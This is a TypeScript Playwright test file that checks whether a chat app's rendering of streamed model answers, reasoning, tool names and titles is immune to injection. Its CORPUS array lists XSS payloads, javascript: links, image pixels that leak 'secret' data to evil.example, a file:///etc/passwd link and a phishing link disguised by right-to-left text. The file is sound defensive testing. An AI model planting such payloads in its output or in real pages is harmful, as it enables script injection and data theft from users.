/**
 * Poisoned answers: script, handlers, addresses that run, pictures and links that carry data away, cut into stream events
 * at every byte. Nothing runs, nothing is asked of another origin, and the page is the same live and from history.
 * `describeBrowser` fails a test whose page speaks to another origin, opens a dialog or breaks the content security policy.
 */

import assert from 'node:assert/strict';
import { after, before, it } from 'node:test';
import type { Page } from 'playwright-core';
import { describeBrowser } from '../support/browser.ts';
import { type ModelServer, startModelServer } from '../support/model-server.ts';
import { startServer, type TestServer } from '../support/server.ts';
import { answers, say, settled } from './app.ts';

const AWAY = 'https://evil.example';

const CORPUS = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  `<img src="${AWAY}/pixel.png?secret">`,
  '<svg onload="window.hacked = 1"><animate onbegin="window.hacked = 1" attributeName="x" dur="1s"></svg>',
  `<iframe src="${AWAY}"></iframe><object data="${AWAY}"></object><embed src="${AWAY}">`,
  `<link rel="stylesheet" href="${AWAY}/style.css"><style>@import "${AWAY}/style.css"; body { background: url(${AWAY}/b.png) }</style>`,
  `<form action="${AWAY}"><button>Send</button></form><base href="${AWAY}/"><meta http-equiv="refresh" content="0;url=${AWAY}">`,
  '<details open ontoggle="window.hacked = 1"><summary>x</summary></details>',
  '[click](javascript:window.hacked=1)',
  '[click](JaVaScRiPt:window.hacked=1) [click](\u0001javascript:window.hacked=1) [click](java\tscript:window.hacked=1)',
  '[click](data:text/html,<script>window.hacked=1</script>) [click](vbscript:x) [click](file:///etc/passwd)',
  '[click](&#106;avascript:window.hacked=1) <javascript:window.hacked=1>',
  `![picture](${AWAY}/pixel.png?secret=1) ![picture][ref]\n\n[ref]: ${AWAY}/pixel.png?secret=2`,
  `[![picture](${AWAY}/a.png)](${AWAY}/b)`,
  '![x](javascript:window.hacked=1) ![x](data:image/svg+xml,<svg/onload=window.hacked=1>)',
  `[link](${AWAY}/?data=secret "title\\" onmouseover=\\"window.hacked=1")`,
  `${AWAY}/auto?data=secret <${AWAY}/angle> user@evil.example`,
  '```html"><script>window.hacked=1</script>\n<script>window.hacked = 1</script>\n```',
  '```js\n"</code></pre><script>window.hacked=1</script>"\n```',
  '`<img src=x onerror=window.hacked=1>`',
  '| <img src=x onerror=window.hacked=1> | [x](javascript:window.hacked=1) |\n|---|---|\n| <b>a</b> | ![x](//evil.example/x.png) |',
  '$\\href{javascript:window.hacked=1}{x}$ $\\includegraphics{https://evil.example/x.png}$ $\\htmlData{x=1}{y}$',
  '$$\n\\url{javascript:window.hacked=1} \\htmlStyle{background:url(https://evil.example/x.png)}{x}\n$$',
  '- <script>window.hacked=1</script>\n- [ ] <img src=x onerror=window.hacked=1>\n\n> <iframe srcdoc="<script>parent.hacked=1</script>">',
  '# <img src=x onerror=window.hacked=1>\n\n**<script>window.hacked=1</script>** ~~<b>x</b>~~',
  '&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62;',
  '<!-- --><![CDATA[<script>window.hacked=1</script>]]><?php window.hacked=1 ?>',
  '\u202ehttps://elpmaxe.live/\u202c [https://bank.example](https://evil.example/phish)',
];

describeBrowser('a poisoned answer', ({ visit }) => {
  let model: ModelServer;
  let server: TestServer;
  before(async () => {
    model = await startModelServer();
    server = await startServer({ model: model.url });
  });
  after(async () => {
    await server?.close();
    await model?.close();
  });

  /** What is on the page of an answer, without what tells only that it is the last one or has the pointer over it. */
  const drawn = (page: Page) =>
    page.locator('article .prose').evaluateAll((blocks) => blocks.map((block) => block.outerHTML));

  async function assertHarmless(page: Page): Promise<void> {
    const found = await page.evaluate(() => ({
      hacked: (window as unknown as { hacked?: number }).hacked ?? 0,
      forbidden: [...document.querySelectorAll('article .prose')].flatMap((prose) =>
        [...prose.querySelectorAll('*')]
          .filter(
            (element) =>
              /^(script|img|iframe|object|embed|link|style|form|base|meta|video|audio|picture|source)$/i.test(
                element.tagName,
              ) ||
              element.getAttributeNames().some((name) => name.startsWith('on')) ||
              (element.tagName === 'svg' && element.closest('.katex, button') === null),
          )
          .map((element) => element.outerHTML),
      ),
      links: [...document.querySelectorAll<HTMLAnchorElement>('article .prose a')].map(({ href, rel, target }) => ({
        href,
        rel,
        target,
      })),
    }));
    assert.equal(found.hacked, 0);
    assert.deepEqual(found.forbidden, []);
    for (const { href, rel, target } of found.links) {
      assert.match(href, /^(https?:\/\/|mailto:)/);
      assert.match(rel, /noopener.*noreferrer/);
      assert.equal(target, '_blank');
    }
  }

  it('is harmless, and the same live and from history, cut at every byte', async () => {
    const page = await visit(server.url);
    const text = CORPUS.join('\n\n');
    // As many events as there are UTF-16 units: whatever comes before a cut has been on the page.
    model.next({ text: [...text] });
    await say(page, 'Go on');
    await answers(page).waitFor();
    await settled(page);
    await page.getByText('https://bank.example').waitFor();
    await assertHarmless(page);
    // What is drawn by files that come later is there.
    await page.locator('.katex').first().waitFor();
    await page.locator('[class^="hljs-"]').first().waitFor();
    const live = await drawn(page);
    await page.reload();
    await page.getByText('https://bank.example').waitFor();
    await page.locator('.katex').first().waitFor();
    await page.locator('[class^="hljs-"]').first().waitFor();
    await page.waitForFunction(
      (known) => [...document.querySelectorAll('article .prose')].map((prose) => prose.outerHTML).join() === known,
      live.join(),
    );
    assert.deepEqual(await drawn(page), live);
    await assertHarmless(page);
  });

  it('is harmless at every point of its way', async () => {
    const page = await visit(server.url);
    for (const text of CORPUS) {
      const asked = model.calls.length;
      const pieces = [...text];
      model.next({ text: pieces, gated: true });
      await say(page, 'Go on');
      const call = await model.call(asked);
      for (let at = 0; at < pieces.length; at += 7) {
        await call.release(7);
        await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => resolve(null))));
      }
      await call.releaseAll();
      await settled(page);
      await assertHarmless(page);
    }
  });

  it('is harmless in reasoning, in what tools are given, and in what a person is told', async () => {
    const page = await visit(server.url);
    const text = CORPUS.join('\n\n');
    model.next({
      reasoning: text,
      text: 'Done',
      tools: [
        { name: `<img src=x onerror=window.hacked=1>`.replaceAll(/[^\w-]/g, '_'), arguments: JSON.stringify({ text }) },
      ],
    });
    await say(page, text);
    await answers(page).getByText('Done').waitFor();
    await settled(page);
    for (const folded of await page.locator('article details > summary').all()) await folded.click();
    await assertHarmless(page);
    const { body } = await server
      .visitor()
      .request<{ id: string }>('POST', '/v1/conversations', { body: { title: CORPUS[1] } });
    await page.getByRole('link', { name: CORPUS[1] ?? '', exact: true }).click();
    await page.waitForURL(`**/c/${body.id}`);
    await assertHarmless(page);
  });
});
